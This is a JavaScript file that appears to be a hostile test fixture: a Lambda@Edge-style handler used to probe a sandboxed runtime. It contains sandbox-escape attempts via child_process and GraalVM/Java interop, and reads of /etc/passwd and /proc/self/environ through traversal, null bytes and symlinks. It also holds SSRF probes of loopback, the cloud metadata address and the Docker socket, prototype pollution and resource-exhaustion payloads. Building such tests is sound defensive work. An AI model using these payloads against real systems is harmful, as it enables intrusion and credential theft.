// A Lambda function that means harm: its uri says how. Answers with what it got hold of.
'use strict';
const tried = async (attempts) => {
  const got = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const value = await attempt();
      if (value !== undefined) got.push(`${name}: ${String(value).slice(0, 80)}`);
    } catch (e) {
      // Refused. What it says must not name the host's insides.
      if (/java\.|com\.oracle|org\.graalvm|dev\.brink/.test(String(e && e.stack))) got.push(`${name} told: ${e.stack}`);
    }
  }
  return got.join('; ');
};
const fs = require('fs');
const Module = require('module');
const read = (path) => fs.readFileSync(path, 'utf8');
const escapes = {
  binding: () => process.binding('fs'),
  linkedBinding: () => process._linkedBinding('fs'),
  dlopen: () => process.dlopen({ exports: {} }, '/usr/lib/libc.so'),
  childProcess: () => require('child_process'),
  nodeChildProcess: () => require('node:child_process'),
  importedChildProcess: () => import('child_process'),
  loadedChildProcess: () => Module._load('child_process'),
  createdChildProcess: () => Module.createRequire('/')('child_process'),
  builtinChildProcess: () => process.getBuiltinModule('child_process'),
  vm: () => require('vm').runInThisContext('1'),
  cluster: () => require('cluster'),
  inspector: () => require('inspector'),
  v8: () => require('v8'),
  repl: () => require('repl'),
  worker: () => new (require('worker_threads').Worker)('1', { eval: true }),
  kill: () => process.kill(1),
  main: () => process.mainModule && process.mainModule.constructor._load('child_process'),
  java: () => Java.type('java.lang.Runtime'),
  javaByFunction: () => escapes.java.constructor('return Java')(),
  javaByThis: () => Function('return this.Java')(),
  packages: () => Packages.java.lang.System,
  polyglot: () => Polyglot.eval('js', '1'),
  graal: () => Graal.versionGraalVM,
  load: () => load('/etc/passwd'),
  hostClass: () => console.log.constructor('return this')().process.binding('natives'),
  errorClass: () => {
    try { fs.readFileSync({}); } catch (e) { return e.constructor.constructor('return Java')(); }
  },
  bufferClass: () => Buffer.from('a').buffer.getClass(),
  symbols: () => Object.getOwnPropertySymbols(globalThis).map((s) => globalThis[s]).find((v) => typeof v !== 'string'),
  passwd: () => read('/etc/passwd'),
  environ: () => read('/proc/self/environ'),
  above: () => read('/var/task/../../etc/passwd'),
  coded: () => read(new URL('file:///var/task/%2e%2e/%2e%2e/etc/passwd')),
  zero: () => read('/var/task/index.js\0/../../../etc/passwd'),
  requiredPasswd: () => require('/etc/passwd'),
  importedPasswd: () => import('file:///etc/passwd'),
  root: () => fs.readdirSync('/proc'),
  link: () => { fs.symlinkSync('/etc/passwd', '/tmp/link'); return read('/tmp/link'); },
  hardLink: () => { fs.linkSync('/etc/passwd', '/tmp/hard'); return read('/tmp/hard'); },
  copy: () => { fs.copyFileSync('/etc/passwd', '/tmp/copy'); return read('/tmp/copy'); },
  written: () => { fs.writeFileSync('/var/task/index.js', ''); return 'written'; },
  writtenOutside: () => { fs.writeFileSync('/etc/brink', ''); return 'written'; },
  opened: () => fs.openSync('/dev/tcp'),
};
const http = require('http');
const refused = (options) => new Promise((resolve, reject) => {
  const request = http.get(options, (answer) => resolve(answer.statusCode));
  request.on('error', reject);
});
const reach = {
  fetchLoopback: async () => (await fetch('http://127.0.0.1:9090/health')).status,
  fetchName: async () => (await fetch('http://localhost:9090/health')).status,
  fetchNumber: async () => (await fetch('http://2130706433:9090/')).status,
  fetchHex: async () => (await fetch('http://0x7f.1:9090/')).status,
  fetchZero: async () => (await fetch('http://0.0.0.0:9090/')).status,
  fetchSix: async () => (await fetch('http://[::1]:9090/')).status,
  fetchMapped: async () => (await fetch('http://[::ffff:127.0.0.1]:9090/')).status,
  fetchMetadata: async () => (await fetch('http://169.254.169.254/latest/meta-data/')).status,
  fetchFile: async () => (await fetch('file:///etc/passwd')).status,
  getLoopback: () => refused('http://127.0.0.1:9090/'),
  getSocket: () => refused({ socketPath: '/var/run/docker.sock', path: '/' }),
  getLookup: () => refused({ host: 'example.com', port: 9090, lookup: (n, o, done) => done(null, '127.0.0.1', 4) }),
  netSocket: () => require('net').connect(9090, '127.0.0.1'),
};
const attacks = {
  escapes: () => tried(escapes),
  reach: () => tried(reach),
  environment: () => Object.keys(process.env).sort().join(' '),
  input: () => new Promise((resolve) => {
    let text = 'read ';
    process.stdin.on('data', (data) => { text += data; }).on('end', () => resolve(text));
  }),
  lines: () => { for (let i = 0; i < 4000; i++) console.log('x'.repeat(100)); return 'said'; },
  emptyLines: () => { process.stdout.write('\n'.repeat(12000)); return 'said'; },
  longLine: () => { console.log('y'.repeat(9 * 1024 * 1024)); return 'said'; },
  wide: () => '\u4e00'.repeat(3 * 1024 * 1024),
  error: () => { const e = new Error('z'.repeat(9 * 1024 * 1024)); e.name = 'N'.repeat(100000); throw e; },
  timers: () => { for (let i = 0; i < 5000; i++) setInterval(() => {}, 0); return 'set'; },
  promises: async () => { for (let i = 0; i < 5000; i++) new Promise(() => {}).then(() => {}); return 'promised'; },
  exit: () => process.exit(0),
  rejected: () => new Promise(() => { Promise.reject(new Error('nobody cares')); }),
  pollute: () => {
    const stolen = [];
    for (const [proto, names] of [
      [Function.prototype, ['call', 'apply', 'bind']], [Array.prototype, ['push', 'map', 'forEach', 'includes', 'shift']],
      [Map.prototype, ['get', 'set']], [Promise.prototype, ['then', 'catch']], [String.prototype, ['replace', 'split']],
    ]) {
      for (const name of names) {
        const before = proto[name];
        proto[name] = function (...args) { stolen[stolen.length] = this; return Reflect.apply(before, this, args); };
      }
    }
    Object.prototype.then = undefined;
    Object.prototype.json = '{}';
    Object.prototype.code = 'POLLUTED';
    JSON.stringify = () => '{"status":"200","body":"forged"}';
    return 'polluted';
  },
};
exports.handler = async (event) => {
  const request = event.Records[0].cf.request;
  const name = request.uri.slice(1);
  if (name === 'deep') {
    let deep = {};
    for (let i = 0; i < 2500; i++) deep = { a: deep };
    return deep;
  }
  if (name === 'name') return { status: '200', headers: { ['k'.repeat(60000)]: [{ value: 'v' }] } };
  return { status: '200', body: await attacks[name]() };
};
